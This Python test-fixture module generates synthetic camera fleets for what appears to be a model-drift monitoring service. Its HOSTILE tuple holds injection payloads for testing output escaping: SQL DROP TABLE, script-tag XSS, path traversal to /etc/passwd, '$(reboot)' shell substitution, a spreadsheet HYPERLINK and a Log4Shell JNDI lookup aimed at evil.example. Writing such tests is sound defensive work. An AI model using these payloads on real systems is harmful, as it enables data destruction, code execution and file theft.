"""Who is in a fleet, and what befalls whom."""

from dataclasses import dataclass, field, replace
from functools import cached_property

import numpy as np
from driftline_schemas.segments import Segment

SECOND = 10**9
HOUR = 3600 * SECOND
#: 2026-11-21T09:41:20Z.
NOW_NS = 1_795_254_080 * SECOND
#: A device's own window.
REPORT = 300 * SECOND

#: Names that break what puts them into SQL, HTML, Markdown, paths, shells or spreadsheets.
HOSTILE = (
    "'; DROP TABLE predictions; --",
    "<script>alert(1)</script>",
    "[click](javascript:alert(1)) ![x](http://evil.example/x.png)",
    "../../etc/passwd",
    "a,b=c%20*%2A",
    "$(reboot) `reboot` \\",
    '=HYPERLINK("http://evil.example")',
    "naïve 日本語 \u202egnp.exe 🙂",
    "%s {0} {{7*7}} ${jndi:ldap://evil.example}",
    "NULL",
)


@dataclass(frozen=True, slots=True, kw_only=True)
class Member:
    """One device: `fate` is ok, silent (since two hours), idle, ended, new, or clouded (a cloud service)."""

    name: str
    version: str
    device_type: str
    region: str
    tier: str
    firmware: str
    fate: str
    stream: str


@dataclass(frozen=True, kw_only=True)
class Fleet:
    """What there is. The device type `moved` has drifted in all regions since `moved_hours` hours."""

    devices: int
    types: int
    regions: int
    features: int
    hours: int = 24
    moved: int | None = 1
    moved_hours: int = 5
    silent: int = 1
    idle: int = 0
    ended: int = 0
    new: int = 0
    rate: int = 20
    samples: int = 400
    labelled: float = 0.6
    old_alerts: int = 3
    model: str = "digits"
    versions: tuple[str, ...] = ("2.0.0", "2.1.0")
    hostile: tuple[str, ...] = ()
    now_ns: int = NOW_NS
    seed: int = 3
    references: bool = True
    minimum_rows: float = 50.0
    names: dict[str, str] = field(default_factory=dict)

    def named(self, plain: str, place: int) -> str:
        """A name as it is, or one that hurts."""
        return f"{plain} {self.hostile[place % len(self.hostile)]}" if self.hostile else plain

    @property
    def model_name(self) -> str:
        return self.named(self.model, 0)

    @cached_property
    def version_names(self) -> tuple[str, ...]:
        return tuple(self.named(version, i + 1) for i, version in enumerate(self.versions))

    @cached_property
    def type_names(self) -> tuple[str, ...]:
        return tuple(self.named(f"camera-{'abcdefghij'[i]}", i + 2) for i in range(self.types))

    @cached_property
    def region_names(self) -> tuple[str, ...]:
        known = ("eu-west", "us-east", "ap-south", "eu-north", "us-west", "sa-east")
        return tuple(self.named(known[i], i + 3) for i in range(self.regions))

    @cached_property
    def feature_names(self) -> tuple[str, ...]:
        known = ("sharpness", "contrast", "brightness", "noise", "tilt")
        plain = [known[i] if i < len(known) else f"stroke_{i - len(known)}" for i in range(self.features)]
        return tuple(self.named(name, i) for i, name in enumerate(plain))

    @property
    def closed_ns(self) -> int:
        """End of the last closed evaluation window."""
        return self.now_ns - self.now_ns % HOUR

    @property
    def start_ns(self) -> int:
        """Where the data begin."""
        return self.closed_ns - self.hours * HOUR

    @property
    def reported_ns(self) -> int:
        """The end of the latest window that devices have reported."""
        return self.now_ns - self.now_ns % REPORT

    @property
    def moved_type(self) -> str | None:
        return None if self.moved is None else self.type_names[self.moved]

    def random(self, *what: int) -> np.random.Generator:
        """Random numbers for one purpose."""
        return np.random.default_rng((self.seed, *what))

    def segment(self, **named: str) -> str:
        """The key of a segment of this model."""
        return str(Segment.of({"model": self.model_name, **named}))

    @cached_property
    def members(self) -> tuple[Member, ...]:
        """The devices at the edge, and the cloud service that answers what they escalate."""
        fates = ["silent"] * self.silent + ["idle"] * self.idle + ["ended"] * self.ended + ["new"] * self.new
        cells = [(kind, region) for region in self.region_names for kind in self.type_names]
        found = []
        for i in range(self.devices):
            kind, region = cells[i % len(cells)]
            fate = fates[self.devices - 1 - i] if self.devices - 1 - i < len(fates) else "ok"
            found.append(
                Member(
                    name=self.named(f"cam-{i:04}", i),
                    version=self.version_names[1 if len(self.versions) > 1 and i % 10 == 3 else 0],
                    device_type=kind,
                    region=region,
                    tier="device_edge",
                    firmware=self.named("1.9" if i % 7 == 0 or kind == self.moved_type else "1.8", i),
                    fate=fate,
                    stream=f"{self.seed:08x}{i:024x}",
                )
            )
        return tuple(found)


SMALL = Fleet(devices=4, types=2, regions=1, features=6, rate=60)
LARGE = Fleet(
    devices=2000,
    types=5,
    regions=4,
    features=40,
    silent=13,
    idle=20,
    ended=7,
    new=5,
    samples=20_000,
    old_alerts=500,
)


def hostile(fleet: Fleet = SMALL) -> Fleet:
    """The same fleet, with names that hurt."""
    return replace(fleet, hostile=HOSTILE)
